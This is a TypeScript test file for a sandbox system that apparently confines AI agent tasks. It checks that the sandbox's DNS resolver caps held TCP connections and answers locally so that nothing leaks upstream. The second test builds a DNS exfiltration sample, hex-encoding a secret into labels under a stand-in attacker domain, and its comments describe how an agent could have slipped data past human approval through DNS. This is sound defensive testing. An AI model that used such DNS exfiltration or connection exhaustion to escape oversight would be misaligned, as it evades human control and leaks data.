import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type net from "node:net";
import { decideApproval } from "@/lib/approvals/decide-approval";
import { endTask } from "@/lib/tasks/tasks";
import { makeUser } from "../../support/factories";
import { exchangeOn, GATEWAY4, startStack, waitFor, type Stack } from "../../support/isolation/stack";
import { serveCanaryResolver } from "../../support/isolation/topology";

/**
 * The sandbox resolver, attacked from inside a sandbox: what it costs the worker, and what it
 * tells the world.
 */
const PLAIN_READ = "unlisted: deny\nrules:\n  - service: plainapi\n    effects: [read]\n";
/** Nothing is allowed without a person; anything may be asked for. */
const HOLD_ALL = "unlisted: hold\nrules:\n  - service: plainapi\n    decision: hold\n    effects: [read]\n";
const GATEWAY6 = "fd42:b17e:ad00::1";

describe("sandboxes: the resolver as a way to hurt the worker or to leave", () => {
  let s: Stack;
  beforeAll(async () => {
    s = await startStack();
  }, 600_000);
  afterAll(async () => {
    await s?.close();
  });

  // DNS over TCP (port 53 on any address, captured by the fence) went to a server with no cap at
  // all: a sandbox could hold any number of idle connections to it, each a file descriptor of the
  // worker, past the cap its listener connections have.
  it.sequential("a sandbox holding TCP connections to its resolver is capped with its other connections, audited, and they close with its task", async () => {
    await s.startWorker({ BULKHEAD_TASK_MAX_CONNECTIONS: "6" });
    const { taskId } = await s.newTask(PLAIN_READ);
    const launcher = s.topo.spawnBulkhead(["sandbox", "run", "--task", taskId, "--", "sleep", "120"], s.env());
    try {
      const box = await s.liveSandbox(taskId, launcher);
      const inside = await s.topo.helper(box.name);
      const held: net.Socket[] = [];
      // Any resolver address: the fence sends TCP port 53 to the sandbox resolver.
      for (let i = 0; i < 20; i++) {
        const socket = await inside.connect(i % 2 ? GATEWAY4 : "192.0.2.53", 53).catch(() => null);
        if (!socket) continue;
        socket.on("error", () => undefined);
        held.push(socket);
      }
      const open = () => held.filter((c) => !c.destroyed && !c.readableEnded).length;
      // Well within the resolver's idle timeout (10 s): nothing would close them on their own.
      const left = await waitFor("the connections beyond the cap to be closed", async () => (open() <= 6 ? open() : null), 5_000, 100).catch(() => open());
      expect(left, "connections to the resolver the sandbox still holds").toBeLessThanOrEqual(6);
      expect(left).toBeGreaterThan(0);
      // Still a resolver: a query over one of the connections it kept is answered.
      const kept = held.find((c) => !c.destroyed && !c.readableEnded)!;
      const query = Buffer.from("000100000001000000000000" + "05706c61696e076578616d706c65047465737400" + "00010001", "hex");
      const length = Buffer.alloc(2);
      length.writeUInt16BE(query.length);
      const answer = await new Promise<Buffer | null>((resolve) => {
        const timer = setTimeout(() => resolve(null), 3000);
        kept.once("data", (d: Buffer) => {
          clearTimeout(timer);
          resolve(d);
        });
        kept.write(Buffer.concat([length, query]));
      });
      expect(answer?.length ?? 0).toBeGreaterThan(14);
      expect((answer!.readUInt16BE(4) & 0x000f)).toBe(0);
      await waitFor("the connection limit to be audited", async () => {
        const events = await s.t.db.auditEvent.findMany({ where: { taskId, outcome: "deny" } });
        return events.some((e) => (e.data as { code?: string }).code === "sandbox_connection_limit");
      }, 20_000, 250);
      // Ending the task closes what it still holds, within a second.
      const closed = Promise.all(held.filter((c) => !c.destroyed && !c.readableEnded).map((c) => new Promise<number>((r) => c.once("close", () => r(Date.now())))));
      await endTask(s.t.db, s.admin, taskId, "test ends the task");
      const endedAt = Date.now();
      const times = await Promise.race([closed, new Promise<number[]>((r) => setTimeout(() => r([Number.POSITIVE_INFINITY]), 5000))]);
      expect(Math.max(...times) - endedAt).toBeLessThan(1000);
      inside.close();
    } finally {
      await endTask(s.t.db, s.admin, taskId, "test ends the task").catch(() => undefined);
      await new Promise((r) => (launcher.exitCode !== null ? r(null) : launcher.once("exit", r)));
    }
  }, 600_000);

  // A name reachable only through a person's approval (unlisted: hold, or a hold rule) was looked
  // up upstream as soon as the sandbox asked for it: the agent's data left in the names it asked
  // about (<data>.attacker.example, to the attacker's name server), 200 a second, with no request
  // for anyone to approve and only ten names a batch in the audit.
  it.sequential("a name only a person's approval could reach is answered without any upstream lookup, and the held request still reaches its hold and, approved, its upstream", async () => {
    // The worker's own resolver (the host namespace's resolv.conf names 127.0.0.1): it counts
    // every lookup that leaves the worker.
    await s.stopWorker();
    await s.startWorker();
    const upstream = await serveCanaryResolver(s.host, "127.0.0.1");
    const { taskId } = await s.newTask(HOLD_ALL);
    const launcher = s.topo.spawnBulkhead(["sandbox", "run", "--task", taskId, "--", "sleep", "120"], s.env());
    try {
      const box = await s.liveSandbox(taskId, launcher);
      const inside = await s.topo.helper(box.name);
      const secret = Buffer.from("the agent's secret, one label at a time").toString("hex");
      const names = [`${secret.slice(0, 60)}.exfil.attacker.test`, `${secret.slice(60)}.exfil.attacker.test`, `x${"a".repeat(62)}.attacker.test`];
      const answers: string[][] = [];
      for (const name of names) answers.push(await inside.resolve(GATEWAY4, name).catch((e: unknown) => [String(e)]));
      const v6 = await inside.resolve(GATEWAY4, names[0]!, "AAAA").catch((e: unknown) => [String(e)]);
      // A name of a service only a hold rule reaches: not looked up either.
      const held = await inside.resolve(GATEWAY4, "plain.example.test").catch((e: unknown) => [String(e)]);
      expect(upstream.queries, "lookups that left the worker").toBe(0);
      // Answered with Bulkhead's own address (every TCP connection reaches the listener anyway).
      expect(answers).toEqual(names.map(() => [GATEWAY4]));
      expect(v6).toEqual([GATEWAY6]);
      expect(held).toEqual([GATEWAY4]);
      // The connection the answer leads to is judged by the name it presents, and held.
      const out = await exchangeOn(await inside.connect(GATEWAY4, 80), "GET /items HTTP/1.1\r\nHost: plain.example.test\r\nPrefer: respond-async\r\nConnection: close\r\n\r\n", 10_000);
      expect(out, `${out}\n${s.workerLog().slice(-3000)}`).toMatch(/^HTTP\/1\.1 202/);
      const holds = await waitFor("the hold to be audited", async () => {
        const rows = await s.t.db.auditEvent.findMany({ where: { taskId, type: "proxy.hold" } });
        return rows.length > 0 ? rows : null;
      }, 10_000, 100);
      expect(holds.map((e) => (e.data as { url?: string }).url)).toEqual(["http://plain.example.test/items"]);
      // Approved, the same request through the same answer reaches the real upstream.
      const { approvalId } = JSON.parse(out.slice(out.indexOf("\r\n\r\n") + 4)) as { approvalId: string };
      const approver = await makeUser(s.t.db, "approver");
      await decideApproval(s.t.db, approver.actor, approvalId, "approve");
      const hits = s.plain.hits.length;
      const released = await exchangeOn(await inside.connect(GATEWAY4, 80), `GET /items HTTP/1.1\r\nHost: plain.example.test\r\nBulkhead-Approval: ${approvalId}\r\nConnection: close\r\n\r\n`, 10_000);
      expect(released, `${released}\n${s.workerLog().slice(-3000)}`).toMatch(/^HTTP\/1\.1 200/);
      expect(s.plain.hits.length).toBe(hits + 1);
      // A raw connection to that address is Bulkhead itself: refused.
      const raw = await inside.connect(GATEWAY4, 5432);
      const rawOut = await exchangeOn(raw, "\x00\x00\x00\x08\x04\xd2\x16\x2f", 3000);
      expect(rawOut).toBe("");
      expect(raw.destroyed || raw.readableEnded).toBe(true);
      inside.close();
    } finally {
      upstream.close();
      await endTask(s.t.db, s.admin, taskId, "test ends the task").catch(() => undefined);
      await new Promise((r) => (launcher.exitCode !== null ? r(null) : launcher.once("exit", r)));
    }
  }, 600_000);
});
